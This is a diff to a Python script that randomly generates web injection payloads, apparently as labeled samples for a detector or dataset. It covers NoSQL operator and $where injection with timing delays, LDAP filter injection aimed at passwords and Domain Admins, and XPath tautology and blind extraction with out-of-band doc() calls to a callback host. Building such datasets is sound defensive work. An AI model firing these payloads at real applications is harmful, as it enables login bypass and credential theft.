@@ -796,25 +796,30 @@ def jndi(r):
 
 def nosql(r):
     t = r.randrange(7)
+    w, n = rword(r, r.randint(2, 6)), r.randint(0, 9999)
+    field = r.choice(["password", "passwd", "token", "reset_token", "role", "email", "username", "apiKey", "secret", "otp"])
+    ms = r.choice([1000, 2000, 3000, 5000, 10000])
     if t == 0:
         tech = "operator_ne"
-        op = r.choice([("$ne", r.choice(["", "x", "null", "1", "invalid", "a"])), ("$ne", None)])
-        return tech, op, m(["username", "email", "name", "token", "password", "id", "code"], struct="op")
+        op = ("$ne", r.choice(["", w, None, n, "null", "undefined", 1, "a", "invalid", -1]))
+        return tech, op, m(["username", "email", "name", "token", "password", "id", "code", "state"], struct="op")
     if t == 1:
         tech = "operator_gt_in"
-        op = r.choice([("$gt", ""), ("$gt", r.choice(["", "0", "a"])), ("$gte", ""), ("$in", ["admin", "root", "administrator"]),
-                       ("$nin", ["x"]), ("$lt", "~"), ("$exists", True), ("$type", 2), ("$not", {"$eq": "x"})])
+        op = r.choice([("$gt", ""), ("$gt", r.choice(["", "0", "a", " ", n])), ("$gte", r.choice(["", 0, -1])), ("$in", r.sample(["admin", "root", "administrator", "superuser", "test", w], r.randint(1, 4))),
+                       ("$nin", [w]), ("$lt", r.choice(["~", "z", "\uffff", n])), ("$exists", r.choice([True, 1, "true"])), ("$type", r.choice([2, "string", 1])),
+                       ("$not", {"$eq": w}), ("$not", {"$size": 0}), ("$all", [w]), ("$elemMatch", {"$ne": w}), ("$size", r.randint(0, 3))])
         return tech, op, m(["username", "email", "name", "token", "password", "id", "code", "status"], struct="op")
     if t == 2:
         tech = "regex"
-        op = ("$regex", r.choice(["^a", ".*", "^adm", "^" + r.choice("abcdefghijklmnopqrstuvwxyz0123456789") + ".*", "a.*",
-                                  "^(?=a).*", ".{" + str(r.randint(1, 30)) + "}", "^p@ss", "(a+)+$"]))
+        c = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(1, 4)))
+        op = ("$regex", r.choice([f"^{c}", ".*", f"^{c}.*", f"{c}.*", f"^(?={c}).*", ".{" + str(r.randint(1, 30)) + "}", f"^{c}.{{{r.randint(1, 20)}}}$",
+                                  "(a+)+$", f"^{c}", "^$|.*"]))
         return tech, op, m(["username", "email", "password", "token", "search", "name"], struct="op")
     if t == 3:
         tech = "where_js"
-        op = ("$where", r.choice(["this.password.length > 0", "sleep(5000)", "function(){return true}", "1==1",
-                                  "this.role=='admin'", "function(){sleep(5000);return true;}", "return true",
-                                  "this.password.match(/^a/)", "Object.keys(this)[0].match('^.{" + str(r.randint(1, 9)) + "}')"]))
+        op = ("$where", r.choice([f"this.{field}.length > {r.randint(0, 40)}", f"sleep({ms})", "function(){return true}", "1==1", f"this.role=='{r.choice(['admin', 'owner', 'staff'])}'",
+                                  f"function(){{sleep({ms});return true;}}", "return true", f"this.{field}.match(/^{w[:2]}/)", f"this.{field}[{r.randint(0, 9)}]=='{w[0]}'",
+                                  "Object.keys(this)[0].match('^.{" + str(r.randint(1, 9)) + "}')", f"this.{field} != '{w}'", f"(function(){{var d=new Date();do{{}}while(new Date()-d<{ms});return true}})()"]))
         return tech, op, m(["username", "search", "name", "id"], struct="where")
     if t == 4:
         tech = "js_string_injection"
@@ -880,33 +885,40 @@ def crlf(r):
 # ---------------------------------------------------------------- extra classes
 
 def ldap(r):
-    u = r.choice(["admin", "administrator", "root", "jdoe", "svc_backup", "*"])
+    u = r.choice(["admin", "administrator", "root", "jdoe", "svc_backup", "*", rword(r, r.randint(3, 8)), "a.smith", "helpdesk"])
+    attr = r.choice(["uid", "cn", "mail", "sAMAccountName", "userPassword", "objectClass", "memberOf", "sn", "givenName", "description", "telephoneNumber"])
     tech = r.choice(["wildcard", "filter_injection", "blind_attribute"])
     if tech == "wildcard":
-        p = r.choice(["*", "*)(uid=*", f"{u}*", "*)(|(objectClass=*)", "*))%00", f"{u})(|(password=*))", "*()|%26'", "*(|(mail=*))"])
+        p = r.choice(["*", f"*)({attr}=*", f"{u}*", "*)(|(objectClass=*)", "*))%00", f"{u})(|({attr}=*))", "*()|%26'", f"*(|({attr}=*))", f"{u[:2]}*{u[-1:]}", f"*)({attr}=*))(|({attr}=*"])
     elif tech == "filter_injection":
-        p = r.choice([f"{u})(&)", f"*)(uid=*))(|(uid=*", f"{u})(!(&(1=0", f"x)(|(cn=*", f"{u})(|(objectclass=*)", "*)(userPassword=*)",
-                      f"{u}))(|(uid=*", "admin)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)", f"{u})(&(objectCategory=person)"])
+        p = r.choice([f"{u})(&)", f"*)({attr}=*))(|({attr}=*", f"{u})(!(&(1=0", f"x)(|({attr}=*", f"{u})(|(objectclass=*)", "*)(userPassword=*)",
+                      f"{u}))(|(uid=*", "admin)(|(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local)", f"{u})(&(objectCategory=person)",
+                      f"{u})(|(&({attr}=*)(userAccountControl:1.2.840.113556.1.4.803:=2))", f"{u}\\29\\28{attr}=*"])
     else:
-        ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789")
-        p = r.choice([f"{u})(userPassword={ch}*", f"*)(description={ch}*", f"{u})(telephoneNumber=*{ch}", f"{u}*)(sn={ch}*",
-                      f"{u})(|(userPassword={ch}*)(cn=x", f"*)(sAMAccountName={ch}*"])
+        ch = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.randint(1, 3)))
+        p = r.choice([f"{u})(userPassword={ch}*", f"*)(description={ch}*", f"{u})({attr}=*{ch}", f"{u}*)(sn={ch}*",
+                      f"{u})(|(userPassword={ch}*)(cn=x", f"*)(sAMAccountName={ch}*", f"{u})({attr}={ch}*)(uid={u}"])
     return tech, p, m(["username", "search", "name", "email"], pre="%" in p)
 
 
 def xpath(r):
     tech = r.choice(["tautology", "node_extraction", "blind"])
+    node = r.choice(["user", "account", "employee", "customer", "member", "login"])
+    fld = r.choice(["password", "pass", "pin", "secret", "ssn", "role", "email"])
+    w = rword(r, r.randint(3, 7))
     if tech == "tautology":
-        p = r.choice(["' or '1'='1", "' or 1=1 or ''='", "x' or name()='username' or 'x'='y", "\" or \"1\"=\"1", "' or true() or '",
-                      "admin' or '1'='1' or 'a'='a", "') or ('a'='a"])
+        p = r.choice(["' or '1'='1", "' or 1=1 or ''='", f"{w}' or name()='{node}' or 'x'='y", "\" or \"1\"=\"1", "' or true() or '",
+                      f"{w}' or '1'='1' or 'a'='a", "') or ('a'='a", f"{w}' or {r.randint(1, 99)}={r.randint(1, 99)} or 'a'='a", f"' or count(//{node})>0 or '",
+                      f"{w}' or contains({fld},'') or '"])
     elif tech == "node_extraction":
-        p = r.choice(["'] | //user/* | //a['", "')] | //password | a[('", "x'] | /*[1] | a['", "' | //*[contains(.,'pass')] | '",
-                      "1] | //user[position()=1]/password | x[1", "count(/child::node())"])
+        p = r.choice([f"'] | //{node}/* | //a['", f"')] | //{fld} | a[('", "x'] | /*[1] | a['", f"' | //*[contains(.,'{fld[:4]}')] | '",
+                      f"1] | //{node}[position()={r.randint(1, 9)}]/{fld} | x[1", "count(/child::node())", f"'] | //{node}[1]/@* | a['", f"{w}'] | //text() | a['"])
     else:
-        n, ch = r.randint(1, 30), r.choice("abcdefghijklmnop")
-        p = r.choice([f"' and count(/*)=1 and '1'='1", f"' or string-length(name(/*[1]))>{n} or ''='",
-                      f"admin' or substring(//user[1]/password,{n},1)='{ch}' or 'a'='b", f"' and substring(name(/*[1]/*[1]),1,1)='{ch}",
-                      f"' and count(//user/child::node())={n} and '1'='1", "doc('http://" + oast(r) + "/x')", "' and doc-available(concat('http://" + oast(r) + "/',name(/*))) and '1'='1"])
+        n, ch = r.randint(1, 30), r.choice("abcdefghijklmnop0123456789")
+        p = r.choice([f"' and count(/*)={r.randint(1, 5)} and '1'='1", f"' or string-length(name(/*[1]))>{n} or ''='",
+                      f"admin' or substring(//{node}[1]/{fld},{n},1)='{ch}' or 'a'='b", f"' and substring(name(/*[1]/*[1]),1,1)='{ch}",
+                      f"' and count(//{node}/child::node())={n} and '1'='1", "doc('http://" + oast(r) + "/x')",
+                      "' and doc-available(concat('http://" + oast(r) + "/',name(/*))) and '1'='1", f"{w}' and string-length(//{node}[1]/{fld})={n} and '1'='1"])
     return tech, p, m(["username", "search", "name", "id", "password"])
 
 
